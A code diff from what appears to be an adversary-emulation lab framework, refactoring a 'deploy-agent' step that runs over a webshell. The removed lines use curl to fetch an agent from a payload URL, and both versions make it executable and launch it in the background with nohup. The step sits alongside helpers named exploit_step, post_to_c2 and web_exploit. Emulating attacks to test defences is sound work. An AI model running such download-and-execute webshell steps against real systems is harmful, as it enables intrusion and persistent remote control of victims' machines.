@@ -19,7 +19,7 @@ from provarmor.lab.scenarios.implants import (
     implant_payload,
     scan_targets,
 )
-from provarmor.lab.scenarios.steps import exploit_step, post_to_c2, web_exploit
+from provarmor.lab.scenarios.steps import download, exploit_step, post_to_c2, web_exploit
 
 STEPS = (
     exploit_step(
@@ -77,8 +77,8 @@ def plan(ctx: LabContext) -> Plan:
                 step="deploy-agent",
                 channel=Channel.WEBSHELL,
                 command=(
-                    f"mkdir -p {folder} && curl -s -o {folder}/{agent_name} "
-                    f"{ctx.payload_url(agent.path)} && chmod +x {folder}/{agent_name} && "
+                    f"{download(ctx, agent, f'{folder}/{agent_name}')} && "
+                    f"chmod +x {folder}/{agent_name} && "
                     f"nohup {folder}/{agent_name} >/dev/null 2>&1 &"
                 ),
             ),
